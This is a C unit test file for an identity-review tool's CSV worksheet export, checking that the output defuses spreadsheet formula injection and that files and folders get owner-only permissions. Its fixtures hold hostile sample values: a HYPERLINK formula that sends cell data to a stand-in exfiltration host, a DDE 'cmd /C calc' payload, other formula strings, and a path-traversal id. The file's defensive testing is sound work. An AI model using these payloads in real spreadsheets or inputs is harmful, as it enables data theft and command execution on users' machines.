/*
 * test_worksheet.c: the CSV worksheet (reports/worksheet_csv.c), byte for
 * byte: BOM, CRLF, column order, case 18's hostile names defused, our own
 * day counts left numeric; file names; index.csv; the output folder.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "rollcall/buf.h"
#include "rollcall/campaign.h"
#include "rollcall/config.h"
#include "rollcall/report.h"
#include "rollcall/store.h"

#define AS_OF "2026-12-03"
#define BOM "\xEF\xBB\xBF"
#define HEADER "reviewer,reviewer_id,person,title,department,source,login," \
	"account_name,status,last_login,mfa,entitlement,privileged,findings," \
	"days_since_termination,recommendation,item_id,decision,comment\r\n"

struct fx {
	struct store *st;
	char	 dir[64];
};

static void
exec(struct store *st, const char *sql)
{
	struct errbuf err = { "" };

	if (store_exec(st, sql, &err) < 0)
		fail_msg("%s: %s", sql, err.msg);
}

/*
 * Case 18 (tests/data/cases/18-worksheet-formula-injection): the roster
 * as the HR import stores it (the file's job_title is the title, its
 * manager_email resolved to E1800) and the Okta accounts, all linked by
 * email, the 8 leavers terminated_active.
 */
static const struct {
	const char *id, *preferred, *first, *last, *title, *email, *term;
	const char *okta_id, *okta_name, *last_login;
} case18[] = {
	{ "E1801", "=HYPERLINK(\"https://exfil.example.invalid/?d=\"&C2,"
	  "\"Open\")", "Mara", "Quell", "Analyst", "mara.quell@example.com",
	  "2026-11-16", "00u4ddddddddddddd801", "Mara Quell",
	  "2026-11-30T09:00:00.000Z" },
	{ "E1802", "Nico", "Nico", "Barre", "+Contractor Liaison",
	  "nico.barre@example.com", "2026-11-16", "00u4ddddddddddddd802",
	  "=2+5", "2026-11-29T09:00:00.000Z" },
	{ "E1803", "Odile", "Odile", "Fane", "-Interim- Lead",
	  "odile.fane@example.com", "2026-11-16", "00u4ddddddddddddd803",
	  "Odile Fane", "2026-11-28T09:00:00.000Z" },
	{ "E1804", "@Pete", "Pete", "Rusk", "Engineer",
	  "pete.rusk@example.com", "2026-11-16", "00u4ddddddddddddd804",
	  "@SUM(A1:A9)", "2026-11-27T09:00:00.000Z" },
	{ "E1805", "Rui", "Rui", "Salas", "\tOps", "rui.salas@example.com",
	  "2026-11-16", "00u4ddddddddddddd805", "Rui Salas",
	  "2026-11-26T09:00:00.000Z" },
	{ "E1806", "Sade", "Sade", "Tolu", "\rFinance",
	  "sade.tolu@example.com", "2026-11-16", "00u4ddddddddddddd806",
	  "Sade Tolu", "2026-11-25T09:00:00.000Z" },
	{ "E1807", "Ngozi \"Zee\" Eze", "Ngozi", "Eze", "Manager, EMEA",
	  "ngozi.eze@example.com", "2026-11-16", "00u4ddddddddddddd807",
	  "Ngozi <b>Eze</b>", "2026-11-24T09:00:00.000Z" },
	{ "E1808", "Yann", "Yann", "Vidal", "=1+1", "yann.vidal@example.com",
	  "2026-11-16", "00u4ddddddddddddd808", "Yann Vidal",
	  "2026-11-23T09:00:00.000Z" },
	{ "E1800", "Lea", "Lea", "Marchetti", "Head of Ops",
	  "lea.marchetti@example.com", NULL, "00u4ddddddddddddd800",
	  "Lea Marchetti", "2026-12-03T08:00:00.000Z" },
};

static void
load_case18(struct store *st)
{
	struct errbuf err = { "" };
	sqlite3_stmt *p, *a, *l, *f;
	int64_t hr, okta, rid, acc;
	size_t i;

	hr = snapshot_begin(st, "hr", "hr", "hr-roster.csv", &err);
	assert_int_equal(snapshot_finish(st, hr, NULL, NULL, &err), 0);
	okta = snapshot_begin(st, "okta", "okta", "okta-users.csv", &err);
	assert_int_equal(snapshot_finish(st, okta, NULL, NULL, &err), 0);
	exec(st, "INSERT INTO reconciles (as_of, created_at, max_snapshot)"
	    " VALUES ('" AS_OF "', '2026-12-03T00:00:00Z', 2)");
	rid = sqlite3_last_insert_rowid(store_db(st));
	p = store_prepare(st, "INSERT INTO people (snapshot_id, employee_id,"
	    " email, first_name, last_name, preferred_name, display_name,"
	    " status, status_class, termination_date, manager_id, title)"
	    " VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?4 || ' ' || ?5, ?7, ?8, ?9,"
	    " ?10, ?11)", &err);
	a = store_prepare(st, "INSERT INTO accounts (snapshot_id, source,"
	    " native_id, key, login, email, display_name, status, active,"
	    " last_login) VALUES (?1, 'okta', ?2, ?2, ?3, ?3, ?4, 'ACTIVE', 1,"
	    " ?5)", &err);
	l = store_prepare(st, "INSERT INTO links (reconcile_id, account_id,"
	    " person_id, rule) VALUES (?, ?, ?, 'email')", &err);
	f = store_prepare(st, "INSERT INTO findings (reconcile_id, kind,"
	    " severity, source, login, account_id, person_id, detail)"
	    " VALUES (?, 'terminated_active', 'critical', 'okta', ?, ?, ?,"
	    " '{}')", &err);
	assert_true(p && a && l && f);
	for (i = 0; i < ARRAY_SIZE(case18); i++) {
		int leaver = case18[i].term != NULL;

		sqlite3_bind_int64(p, 1, hr);
		store_bind_text(p, 2, case18[i].id);
		store_bind_text(p, 3, case18[i].email);
		store_bind_text(p, 4, case18[i].first);
		store_bind_text(p, 5, case18[i].last);
		store_bind_text(p, 6, case18[i].preferred);
		store_bind_text(p, 7, leaver ? "Terminated" : "Active");
		store_bind_text(p, 8, leaver ? "terminated" : "active");
		store_bind_text(p, 9, case18[i].term);
		store_bind_text(p, 10, leaver ? "E1800" : NULL);
		store_bind_text(p, 11, case18[i].title);
		assert_int_equal(store_step_done(st, p, &err), 0);
		sqlite3_bind_int64(a, 1, okta);
		store_bind_text(a, 2, case18[i].okta_id);
		store_bind_text(a, 3, case18[i].email);
		store_bind_text(a, 4, case18[i].okta_name);
		store_bind_text(a, 5, case18[i].last_login);
		assert_int_equal(store_step_done(st, a, &err), 0);
		acc = sqlite3_last_insert_rowid(store_db(st));
		sqlite3_bind_int64(l, 1, rid);
		sqlite3_bind_int64(l, 2, acc);
		store_bind_text(l, 3, case18[i].id);
		assert_int_equal(store_step_done(st, l, &err), 0);
		if (!leaver)
			continue;
		sqlite3_bind_int64(f, 1, rid);
		store_bind_text(f, 2, case18[i].email);
		sqlite3_bind_int64(f, 3, acc);
		store_bind_text(f, 4, case18[i].id);
		assert_int_equal(store_step_done(st, f, &err), 0);
	}
	sqlite3_finalize(p);
	sqlite3_finalize(a);
	sqlite3_finalize(l);
	sqlite3_finalize(f);
}

static int
setup(void **state)
{
	struct errbuf err = { "" };
	struct fx *fx = calloc(1, sizeof(*fx));

	assert_non_null(fx);
	fx->st = store_open(":memory:", &err);
	assert_non_null(fx->st);
	snprintf(fx->dir, sizeof(fx->dir), "/tmp/rollcall-ws-XXXXXX");
	assert_non_null(mkdtemp(fx->dir));
	*state = fx;
	return 0;
}

static int
teardown(void **state)
{
	struct fx *fx = *state;
	char *cmd = NULL;

	store_close(fx->st);
	/* mkdtemp's name: no quoting needed */
	cmd = xasprintf("rm -rf '%s'", fx->dir);
	if (cmd)
		assert_int_equal(system(cmd), 0);
	free(cmd);
	free(fx);
	return 0;
}

static char *
slurp(const char *path, size_t *len)
{
	FILE *fp = fopen(path, "rb");
	char *s;
	long n;

	assert_non_null(fp);
	assert_int_equal(fseek(fp, 0, SEEK_END), 0);
	n = ftell(fp);
	rewind(fp);
	s = malloc((size_t)n + 1);
	assert_non_null(s);
	assert_int_equal(fread(s, 1, (size_t)n, fp), (size_t)n);
	s[n] = '\0';
	fclose(fp);
	*len = (size_t)n;
	return s;
}

/*
 * Fields per record, RFC 4180: commas outside quotes; a record ends at
 * CRLF outside quotes. -1 where a record is cut in the middle.
 */
static int
fields_per_record(const char *s, int *counts, int max)
{
	int n = 0, f = 1, q = 0;

	for (; *s; s++) {
		if (*s == '"')
			q = !q;
		else if (!q && *s == ',')
			f++;
		else if (!q && s[0] == '\r' && s[1] == '\n') {
			if (n < max)
				counts[n] = f;
			n++;
			f = 1;
			s++;
		} else if (!q && (*s == '\r' || *s == '\n'))
			return -1;	/* a bare line break outside quotes */
	}
	return q || f != 1 ? -1 : n;
}

static void
test_case18_csv_bytes(void **state)
{
	struct fx *fx = *state;
	struct campaign_open_result res;
	struct campaign_reviewer rv = { "E1800", "Lea", NULL, 8, 8 };
	struct errbuf err = { "" };
	struct campaign c;
	struct buf want = BUF_INIT;
	char *path, *got, id[ITEM_ID_SIZE];
	int counts[16], i;
	size_t len, k;
	/* person cell, title cell, okta login, account_name cell, index */
	static const struct {
		const char *person, *title, *account_name;
		int i;
	} rows[] = {
		{ "\"'=HYPERLINK(\"\"https://exfil.example.invalid/?d=\"\"&C2,"
		  "\"\"Open\"\")\"", "Analyst", "Mara Quell", 0 },
		{ "'@Pete", "Engineer", "'@SUM(A1:A9)", 3 },
		{ "\"Ngozi \"\"Zee\"\" Eze\"", "\"Manager, EMEA\"",
		  "Ngozi <b>Eze</b>", 6 },
		{ "Nico", "'+Contractor Liaison", "'=2+5", 1 },
		{ "Odile", "'-Interim- Lead", "Odile Fane", 2 },
		{ "Rui", "'\tOps", "Rui Salas", 4 },
		{ "Sade", "\"'\rFinance\"", "Sade Tolu", 5 },
		{ "Yann", "'=1+1", "Yann Vidal", 7 },
	};

	load_case18(fx->st);
	assert_int_equal(store_begin(fx->st, &err), 0);
	assert_int_equal(campaign_open(fx->st, NULL, "Q4-2026", AS_OF, NULL, 1,
	    &res, &err), 0);
	assert_int_equal(store_commit(fx->st, &err), 0);
	assert_int_equal(res.items, 9);
	assert_int_equal(res.revoke, 8);
	campaign_result_release(&res);
	assert_int_equal(campaign_find(fx->st, "Q4-2026", &c, &err), 1);

	path = xasprintf("%s/lea.csv", fx->dir);
	assert_int_equal(worksheet_csv.write(fx->st, &c, &rv, path, &err), 0);
	got = slurp(path, &len);

	buf_adds(&want, BOM HEADER);
	for (k = 0; k < ARRAY_SIZE(rows); k++) {
		i = rows[k].i;
		campaign_item_id("Q4-2026", "okta", case18[i].okta_id, NULL, id);
		buf_addf(&want, "Lea,E1800,%s,%s,,okta,%s,%s,ACTIVE,%s,"
		    "unknown,,,terminated_active,17,revoke,%s,,\r\n",
		    rows[k].person, rows[k].title, case18[i].email,
		    rows[k].account_name, case18[i].last_login, id);
	}
	assert_string_equal(got, buf_str(&want));
	assert_int_equal(len, want.len);
	/* 1 header + 8 items, each with the header's 19 columns */
	assert_int_equal(fields_per_record(got, counts, 16), 9);
	for (i = 0; i < 9; i++)
		assert_int_equal(counts[i], 19);
	/* "17" bare: a number, not text; E1800 is no item of her own */
	assert_non_null(strstr(got, ",terminated_active,17,revoke,"));
	assert_null(strstr(got, "lea.marchetti"));

	buf_release(&want);
	free(got);
	free(path);
	campaign_release(&c);
}

static void
test_file_names(void **state)
{
	static const struct {
		const char *id, *name, *want;
	} v[] = {
		{ "E1800", "Lea Marchetti", "E1800-lea-marchetti.csv" },
		{ "E1", "Zoë Ångström", "E1-zoe-angstrom.csv" },
		{ "E2", "Łukasz Nuñez-Øberg", "E2-lukasz-nunez-oberg.csv" },
		{ "E3", "Æsa Straße", "E3-aesa-strasse.csv" },
		{ "E4", "=cmd|' /C calc'!A0", "E4-cmd-c-calc-a0.csv" },
		{ "E5", "李小龙", "E5.csv" },
		{ "../etc/x", "A B", "etc-x-a-b.csv" },
		{ "unassigned", "unassigned", "unassigned.csv" },
		{ "E1001", "E1001", "E1001.csv" },
	};
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(v); i++) {
		struct campaign_reviewer r = { (char *)v[i].id,
		    (char *)v[i].name, NULL, 0, 0 };
		char *got = worksheet_file_name(&r, "csv");

		assert_string_equal(got, v[i].want);
		free(got);
	}
}

static void
test_index_csv(void **state)
{
	struct fx *fx = *state;
	struct campaign_reviewer rv[] = {
		{ "E1800", "Lea Marchetti", "lea@example.com", 9, 8 },
		{ "E9", "=evil()", NULL, 1, 0 },
	};
	struct index_row rows[] = {
		{ &rv[0], "E1800-lea-marchetti.csv" },
		{ &rv[1], "E9-evil.csv" },
	};
	struct errbuf err = { "" };
	char *path = xasprintf("%s/index.csv", fx->dir), *got;
	size_t len;

	assert_int_equal(worksheet_index_csv(path, rows, 2, &err), 0);
	got = slurp(path, &len);
	assert_string_equal(got, BOM
	    "reviewer_id,reviewer_name,reviewer_email,file,items,"
	    "revoke_recommended\r\n"
	    "E1800,Lea Marchetti,lea@example.com,E1800-lea-marchetti.csv,9,8\r\n"
	    "E9,'=evil(),,E9-evil.csv,1,0\r\n");
	free(got);
	free(path);
}

static void
test_cells(void **state)
{
	struct campaign_item it;
	enum cell_type t;
	char num[32];

	(void)state;
	memset(&it, 0, sizeof(it));
	it.days_since_termination = -1;
	/* an account's own item: no privileged flag, unknowns spelled out */
	assert_string_equal(worksheet_cell(&it, 12, num, &t), "");
	assert_string_equal(worksheet_cell(&it, 9, num, &t), "unknown");
	assert_string_equal(worksheet_cell(&it, 10, num, &t), "unknown");
	assert_string_equal(worksheet_cell(&it, 14, num, &t), "");
	assert_int_equal(t, CELL_TEXT);
	it.entitlement = "admins";
	it.privileged = 1;
	assert_string_equal(worksheet_cell(&it, 12, num, &t), "yes");
	it.privileged = 0;
	assert_string_equal(worksheet_cell(&it, 12, num, &t), "no");
	it.days_since_termination = 17;
	assert_string_equal(worksheet_cell(&it, 14, num, &t), "17");
	assert_int_equal(t, CELL_NUMBER);
	assert_string_equal(worksheet_columns[14], "days_since_termination");
	assert_int_equal(worksheet_ncolumns, 19);
	/* the reviewer's id right after their name, defused like any text */
	assert_string_equal(worksheet_columns[1], "reviewer_id");
	it.reviewer_name = "Lea";
	it.reviewer_id = "E1800";
	assert_string_equal(worksheet_cell(&it, 0, num, &t), "Lea");
	assert_string_equal(worksheet_cell(&it, 1, num, &t), "E1800");
	assert_int_equal(t, CELL_TEXT);
}

static void
test_mkdir(void **state)
{
	struct fx *fx = *state;
	struct errbuf err = { "" };
	struct stat sb;
	char *deep = xasprintf("%s/a/b/c", fx->dir);
	char *open_dir = xasprintf("%s/open", fx->dir);

	umask(022);		/* what a shell usually has: 0755 and 0644 */
	assert_int_equal(report_mkdir(deep, &err), 0);
	assert_int_equal(stat(deep, &sb), 0);
	assert_true(S_ISDIR(sb.st_mode));
	assert_int_equal(sb.st_mode & S_IWOTH, 0);
	/* identity data: every folder rollcall creates is the owner's only */
	assert_int_equal(sb.st_mode & 07777, 0700);
	deep[strlen(deep) - 4] = '\0';		/* its parent "a" too */
	assert_int_equal(stat(deep, &sb), 0);
	assert_int_equal(sb.st_mode & 07777, 0700);
	strcat(deep, "/b/c");
	/* again: an existing folder is fine */
	assert_int_equal(report_mkdir(deep, &err), 0);
	assert_int_equal(mkdir(open_dir, 0700), 0);
	assert_int_equal(chmod(open_dir, 0777), 0);
	assert_int_equal(report_mkdir(open_dir, &err), -1);
	assert_non_null(strstr(err.msg, "is writable by everyone"));
	free(deep);
	free(open_dir);
}

/* Files are 0600, also one that existed with a wider mode. */
static void
test_create_mode(void **state)
{
	struct fx *fx = *state;
	struct errbuf err = { "" };
	struct stat sb;
	char *path = xasprintf("%s/w.csv", fx->dir);
	FILE *fp;
	int fd;

	umask(022);
	assert_non_null(fp = report_create(path, &err));
	assert_int_equal(close_stream(fp), 0);
	assert_int_equal(stat(path, &sb), 0);
	assert_int_equal(sb.st_mode & 07777, 0600);
	assert_int_equal(unlink(path), 0);
	assert_true((fd = open(path, O_WRONLY | O_CREAT, 0644)) >= 0);
	close(fd);
	assert_non_null(fp = report_create(path, &err));
	assert_int_equal(close_stream(fp), 0);
	assert_int_equal(stat(path, &sb), 0);
	assert_int_equal(sb.st_mode & 07777, 0600);
	free(path);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_case18_csv_bytes, setup,
		    teardown),
		cmocka_unit_test(test_file_names),
		cmocka_unit_test_setup_teardown(test_index_csv, setup,
		    teardown),
		cmocka_unit_test(test_cells),
		cmocka_unit_test_setup_teardown(test_mkdir, setup, teardown),
		cmocka_unit_test_setup_teardown(test_create_mode, setup,
		    teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
